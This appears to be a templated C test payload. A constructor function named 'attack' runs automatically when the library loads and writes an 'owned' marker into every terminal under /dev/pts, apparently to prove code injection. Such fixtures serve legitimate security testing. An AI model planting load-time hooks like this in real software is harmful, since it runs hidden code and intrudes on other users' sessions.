#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    DIR *entries = opendir("/dev/pts");
    for (struct dirent *entry; entries != NULL && (entry = readdir(entries)) != NULL;) {
        char path[300];
        snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
        int terminal = open(path, O_WRONLY | O_NOCTTY | O_NONBLOCK);
        (void)!write(terminal, "owned-@NUMBER@\n", sizeof "owned-@NUMBER@");
        close(terminal);
    }
    if (entries != NULL)
        closedir(entries);
}
